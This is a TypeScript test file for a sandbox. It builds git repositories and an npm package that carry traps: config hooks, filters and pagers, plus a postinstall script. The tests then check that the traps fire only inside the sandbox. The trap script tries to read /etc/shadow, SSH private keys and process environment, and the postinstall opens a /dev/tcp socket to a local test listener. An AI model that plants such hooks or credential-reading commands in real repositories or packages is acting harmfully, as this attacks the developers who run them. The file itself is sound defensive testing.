/**
 * Repositories and packages that attack whoever works with them. What they make git or npm run does run: inside, where
 * it reaches nothing. Each test first shows that the trap really went off.
 */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { readTar } from '../tar.ts'
import { type Inside, inside, testSandbox, withDirectory } from '../testing.ts'

const sandbox = testSandbox()

/** Leaves a mark where it may, and tries to leave one on the host and to read what it should not. */
const trap = (mark: string, outside: string) =>
  `#!/bin/sh\ntouch /work/sprung-${mark}\ntouch ${outside}/escaped /usr/escaped 2> /dev/null\ncat /etc/shadow ~/.ssh/id_* /proc/1/environ > /work/loot 2> /dev/null\ncat\n`

async function sprung({ sh }: Inside, mark: string): Promise<boolean> {
  return (await sh(`[ -e /work/sprung-${mark} ] && echo yes; cat /work/loot 2> /dev/null`)).out === 'yes'
}

describe('git', () => {
  const commands: { name: string; setting: string; command: string }[] = [
    { name: 'core.fsmonitor', setting: 'core.fsmonitor', command: 'git status' },
    { name: 'diff.external', setting: 'diff.external', command: 'git diff' },
    { name: 'core.pager', setting: 'core.pager', command: 'script -qec "git --paginate log" /dev/null' },
    { name: 'core.sshCommand', setting: 'core.sshCommand', command: 'git fetch ssh://host.invalid/repo' },
    { name: 'core.editor', setting: 'core.editor', command: 'git commit --allow-empty' },
    { name: 'an alias', setting: 'alias.st', command: 'git st' },
    {
      name: 'a credential helper',
      setting: 'credential.helper',
      command: 'echo "url=http://host.invalid/" | git credential fill',
    },
  ]

  test.each(commands)('runs $name of a repository inside only', ({ setting, command }) =>
    withDirectory(outside =>
      inside(sandbox, async workspace => {
        const value = setting.startsWith('alias') ? '!/work/trap' : '/work/trap'
        await workspace.writeFile('trap', trap('config', outside))
        await workspace.sh(
          `chmod +x trap; git init -q repo; cd repo; echo a > f; git add f; git commit -qm first; echo b > f; git config ${setting} '${value}'`,
        )
        await workspace.sh(command, { cwd: 'repo', limits: { wallMs: 3_000 } })
        expect(await sprung(workspace, 'config')).toBe(true)
        expect(existsSync(join(outside, 'escaped'))).toBe(false)
      }),
    ),
  )

  test('runs hooks, a moved hooks path and a clean filter of a repository inside only', () =>
    withDirectory(outside =>
      inside(sandbox, async workspace => {
        await workspace.sh('git init -q repo')
        const hooks = { 'repo/.git/hooks/pre-commit': 'hook', 'elsewhere/post-commit': 'path', filter: 'filter' }
        for (const [path, mark] of Object.entries(hooks)) {
          await workspace.writeFile(path, trap(mark, outside))
          await workspace.sh(`chmod +x ${path}`)
        }
        await workspace.sh('echo a > f; git add f; git commit -qm first', { cwd: 'repo' })
        expect(await sprung(workspace, 'hook')).toBe(true)
        await workspace.sh('git config core.hooksPath /work/elsewhere; git commit -qm second --allow-empty', {
          cwd: 'repo',
        })
        expect(await sprung(workspace, 'path')).toBe(true)
        await workspace.sh(
          'git config filter.x.clean /work/filter; echo "* filter=x" > .gitattributes; echo c > f; git status',
          { cwd: 'repo' },
        )
        expect(await sprung(workspace, 'filter')).toBe(true)
        expect(existsSync(join(outside, 'escaped'))).toBe(false)
      }),
    ))

  test('reads a mounted repository that sets traps, without a change to it', () =>
    withDirectory(outside =>
      inside(sandbox, async maker => {
        await maker.sh(
          'git init -q .; echo a > f; git add f; git commit -qm first; git config core.fsmonitor "touch /repo/escaped; touch /work/sprung-mount; false"',
        )
        const repository = join(outside, 'repo')
        spread(await maker.pack('', 10e6), repository)
        await inside(
          sandbox,
          async workspace => {
            expect((await workspace.sh('git -C /repo status --short; git -C /repo log --format=%s')).out).toContain(
              'first',
            )
            expect(await sprung(workspace, 'mount')).toBe(true)
            expect(existsSync(join(repository, 'escaped'))).toBe(false)
          },
          { mounts: [{ hostPath: repository, path: '/repo' }] },
        )
      }),
    ))
})

describe('npm', () => {
  test('runs a postinstall that writes outside and calls out inside only', async () => {
    let visits = 0
    const server = createServer(socket => {
      visits += 1
      socket.destroy()
    }).listen(0, '127.0.0.1')
    await new Promise(resolve => server.once('listening', resolve))
    const address = server.address()
    const port = typeof address === 'object' && address !== null ? address.port : 0
    await withDirectory(outside =>
      inside(
        sandbox,
        async workspace => {
          const postinstall = `touch /work/sprung-npm ${outside}/escaped; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}'; true`
          await workspace.writeFile(
            'package/package.json',
            JSON.stringify({ name: 'trap', version: '1.0.0', scripts: { postinstall } }),
          )
          await workspace.writeFile('app/package.json', JSON.stringify({ name: 'app', version: '1.0.0' }))
          const install = 'node /npm/bin/npm-cli.js install --offline --foreground-scripts --install-links ../package'
          const { exitCode, err } = await workspace.sh(install, { cwd: 'app', limits: { cpuSeconds: 30 } })
          expect(exitCode, err).toBe(0)
          expect(await sprung(workspace, 'npm')).toBe(true)
          expect(existsSync(join(outside, 'escaped'))).toBe(false)
          expect(visits).toBe(0)
        },
        { mounts: [{ hostPath: npmDirectory(), path: '/npm' }] },
      ),
    )
    await new Promise(resolve => server.close(resolve))
  })
})

/** npm came with this Node, or is what runs these tests. */
function npmDirectory(): string {
  const beside = join(dirname(dirname(process.execPath)), 'lib/node_modules/npm')
  const running = process.env.npm_execpath === undefined ? [] : [dirname(dirname(process.env.npm_execpath))]
  const found = [beside, ...running].find(path => existsSync(join(path, 'bin/npm-cli.js')))
  if (found === undefined) throw new Error('npm is neither beside Node nor what runs these tests')
  return found
}

/** Writes a tree that a sandbox packed to the disk: regular files and directories of this test's own making. */
function spread(tar: Uint8Array, directory: string): void {
  for (const entry of readTar(tar)) {
    const path = join(directory, entry.name)
    if (entry.type === 'directory') mkdirSync(path, { recursive: true })
    else writeFileSync(path, tar.subarray(entry.offset, entry.offset + entry.size))
  }
}
